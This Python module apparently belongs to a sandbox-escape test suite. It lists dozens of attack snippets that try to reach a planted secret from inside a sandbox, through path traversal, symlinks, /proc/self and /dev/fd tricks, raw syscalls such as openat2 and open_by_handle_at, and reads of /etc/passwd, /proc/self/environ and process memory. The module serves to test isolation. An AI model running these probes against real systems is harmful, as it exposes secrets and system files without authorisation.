"""Reading and listing what is on the host."""

from __future__ import annotations

from attack import Attack

READS = {
    "open": "open(place['secret']).read()",
    "os-open": "os.read(os.open(place['secret'], os.O_RDONLY), 999)",
    "fileio": "__import__('_io').FileIO(place['secret']).readall()",
    "open-code": "__import__('io').open_code(place['secret']).read()",
    "codecs": "__import__('codecs').open(place['secret']).read()",
    "linecache": "__import__('linecache').getlines(place['secret'])",
    "tokenize": "__import__('tokenize').open(place['secret']).read()",
    "fileinput": "list(__import__('fileinput').input([place['secret']]))",
    "pathlib": "__import__('pathlib').Path(place['secret']).read_text()",
    "shutil-copy": "open(__import__('shutil').copy(place['secret'], 'copy')).read()",
    "source-loader": "__import__('importlib.machinery').machinery.SourceFileLoader('m', place['secret']).get_data("
    "place['secret'])",
    "sys-path": "sys.path.insert(0, place['folder']) or __import__('secret_module').TOKEN",
    "runpy": "__import__('runpy').run_path(place['module'])['TOKEN']",
    "zipimport": "__import__('zipimport').zipimporter(place['zip']).load_module('zipped').TOKEN",
    "zipfile": "__import__('zipfile').ZipFile(place['zip']).read('zipped.py')",
    "sqlite3": "__import__('sqlite3').connect(place['sqlite']).execute('select * from secrets').fetchall()",
    "sqlite3-attach": "(lambda db: db.execute('attach ? as x', (place['sqlite'],)) and db.execute('select * from "
    "x.secrets').fetchall())(__import__('sqlite3').connect(':memory:'))",
    "mmap": "__import__('mmap').mmap(os.open(place['secret'], os.O_RDONLY), 0, prot=1)[:]",
    "project-database": "open(place['state'], 'rb').read()",
    "project-script": "open(place['script']).read()",
    "listdir": "os.listdir(place['folder'])",
    "scandir": "[entry.name for entry in os.scandir(place['folder'])]",
    "walk": "list(os.walk(place['folder']))",
    "glob": "__import__('glob').glob(place['folder'] + '/*')",
    "readlink": "os.readlink(place['pointer'])",
    "xattr": "os.getxattr(place['secret'], 'user.secret')",
    "proc-self-root": "open('/proc/self/root' + place['secret']).read()",
    "proc-self-cwd": "open('/proc/self/cwd/' + '../' * 40 + place['secret']).read()",
    "proc-thread-self": "open('/proc/thread-self/root' + place['secret']).read()",
    "dev-fd": "open('/dev/fd/%d' % os.open(place['secret'], os.O_PATH)).read()",
    "dot-dot": "open('../' * 40 + place['secret'].lstrip('/')).read()",
    "dirfd-of-scratch": "os.read(os.open('../' * 40 + place['secret'].lstrip('/'), 0, dir_fd=os.open('.', 0)), 999)",
    "dirfd-path-only": "os.read(os.open('../' * 40 + place['secret'][1:], 0, dir_fd=os.open('.', os.O_PATH)), 999)",
    "dirfd-of-root": "os.read(os.open(place['secret'].lstrip('/'), 0, dir_fd=os.open('/', os.O_PATH)), 999)",
    "chdir": "(os.chdir(place['folder']), open('secret.txt').read())",
    "fchdir": "(os.fchdir(os.open(place['folder'], os.O_PATH)), open('secret.txt').read())",
    "symlink": "(os.symlink(place['secret'], 'link'), open('link').read())",
    "symlink-to-folder": "(os.symlink(place['folder'], 'way'), open('way/secret.txt').read())",
    "hard-link": "(os.link(place['secret'], 'hard'), open('hard').read())",
    "rename-in": "(os.rename(place['secret'], 'mine'), open('mine').read())",
    "home": "open(os.environ.get('HOME', '.') + '/../' * 40 + place['secret']).read()",
    "library-of-c": "(setattr(libc.fopen, 'restype', ctypes.c_void_p), "
    "setattr(libc.fgets, 'restype', ctypes.c_char_p), libc.fgets(ctypes.create_string_buffer(999), 999, "
    "ctypes.c_void_p(libc.fopen(place['secret'].encode(), b'r'))))",
    "certificates": "__import__('ssl').SSLContext().load_verify_locations(place['certificate']) or won()",
}
"""Each an expression that gives a secret."""

OPENAT2 = """
how = struct.pack("QQQ", 0, 0, 0)
fd = raw(437, -100, place["secret"].encode(), how, len(how))
tell(fd, text(os.read(fd, 999)))
"""

OPEN_BY_HANDLE = """
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
answer = raw(303, -100, place["secret"].encode(), handle, ctypes.byref(mount), 0)
tell("name_to_handle_at", answer)
fd = raw(304, os.open(place["secret"], os.O_RDONLY), handle, 0)
tell(text(os.read(fd, 999)))
"""

NAME_TO_HANDLE = """
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
enters("name_to_handle_at", 303, -100, place["secret"].encode(), handle, ctypes.byref(ctypes.c_int()), 0)
"""

EVERY_DESCRIPTOR = """
for fd in range(4, 1024):
    with contextlib.suppress(OSError):
        os.lseek(fd, 0, 0)
    try:
        os.set_blocking(fd, False)
        tell(fd, text(os.read(fd, 999)))
        won(f"descriptor {fd} is open")
    except OSError as error:
        if error.errno != errno.EBADF:
            won(f"descriptor {fd} is open: {error}")
"""

PROC_SELF = """
for name in ("environ", "maps", "cmdline", "mountinfo", "auxv", "status", "stat", "exe"):
    try:
        data = open(f"/proc/self/{name}", "rb").read(1 << 20)
        tell(name, text(data))
        won(f"/proc/self/{name}")
    except OSError as error:
        tell(name, error)
"""

PROC_LISTING = """
for name in ("/proc", "/proc/self/fd", "/proc/self/task", "/proc/1", "/sys", "/sys/fs/cgroup", "/dev", "/etc", "/"):
    try:
        won(f"{name}: {os.listdir(name)[:3]}")
    except OSError as error:
        tell(error)
"""

PROC_MEM = """
buffer = ctypes.create_string_buffer(b"own")
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    memory.seek(ctypes.addressof(buffer))
    won(memory.read(3))
"""

SYSTEM_FILES = """
for name in ("/etc/passwd", "/etc/hostname", "/etc/resolv.conf", "/etc/hosts", "/proc/version", "/proc/cpuinfo",
             "/proc/meminfo", "/proc/mounts", "/proc/net/tcp", "/proc/sys/kernel/hostname", "/sys/kernel/mm/ksm/run",
             "/dev/tty", "/dev/ptmx", "/dev/kmsg", "/dev/fuse", "/dev/net/tun"):
    try:
        os.close(os.open(name, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
        won(name)
    except OSError as error:
        tell(error)
"""

INOTIFY = """
fd = raw(294, 0)
enters("inotify_add_watch", 254, fd, place["folder"].encode(), 0xfff)
"""

DNOTIFY = """
import fcntl
fd = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
fcntl.fcntl(fd, 1026, 0x80000004)
won("F_NOTIFY on the library's folder")
"""

FANOTIFY = """
enters("fanotify_init", 300, 0x200, 0)
"""

METADATA = """
found = os.stat(place["secret"])
won(f"{found.st_size} bytes of {found.st_uid}, changed {found.st_mtime}")
"""

DLOPEN = """
copy = place["shared_object"]
ctypes.CDLL(copy)
won("a shared object of the host was loaded")
"""

FOLDERS_AROUND = """
library = os.path.dirname(os.__file__)
for folder in (os.path.dirname(place["folder"]), os.path.dirname(sys.executable), sys.prefix, os.path.dirname(library),
               os.environ.get("HOME", "") + "/..", "/usr", "/usr/bin", "/lib", "/var", "/home", "/opt"):
    try:
        names = set(os.listdir(folder)) - {os.path.basename(os.environ.get("HOME", ""))}
        if names:
            won(f"{folder}: {names}")
    except OSError as error:
        tell(error)
"""
"""The folder above the scratch may show the scratch itself."""

ATTACKS = [
    *(
        Attack(
            name=name,
            code=f"tell({expression})",
            shows="claim" if name == "certificates" else "token",
            core="without the private view a script sees names and metadata of files" if name == "readlink" else "",
        )
        for name, expression in READS.items()
    ),
    Attack(name="openat2", code=OPENAT2, shows="token"),
    Attack(name="open-by-handle", code=OPEN_BY_HANDLE, shows="token", root=True),
    Attack(name="name-to-handle", code=NAME_TO_HANDLE),
    Attack(name="every-descriptor", code=EVERY_DESCRIPTOR, shows="token"),
    Attack(name="proc-self", code=PROC_SELF, shows="token"),
    Attack(name="proc-listing", code=PROC_LISTING),
    Attack(name="proc-self-mem", code=PROC_MEM),
    Attack(name="system-files", code=SYSTEM_FILES),
    Attack(name="inotify", code=INOTIFY),
    Attack(name="dnotify", code=DNOTIFY),
    Attack(name="fanotify", code=FANOTIFY),
    Attack(name="metadata", code=METADATA, core="without the private view a script sees names and metadata of files"),
    Attack(name="dlopen", code=DLOPEN),
    Attack(name="folders-around", code=FOLDERS_AROUND),
]
